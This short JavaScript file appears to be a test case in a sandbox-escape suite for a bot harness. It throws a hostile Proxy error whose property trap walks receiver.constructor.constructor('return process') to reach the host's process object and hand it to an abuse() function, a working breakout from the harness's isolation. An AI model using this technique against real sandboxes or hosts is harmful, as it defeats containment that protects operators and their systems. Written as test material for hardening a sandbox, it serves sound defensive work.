// family: escape
// a hostile error is read by the harness
async function main (bot) {
  const host = { get message () { return sniff.caller }, get stack () { return 'at main (program:1:1)' } }
  function sniff () {}
  throw new Proxy(host, { get (target, key, receiver) { if (receiver.constructor) { try { abuse(bot, receiver.constructor.constructor('return process')()) } catch {} } return Reflect.get(target, key) } })
}
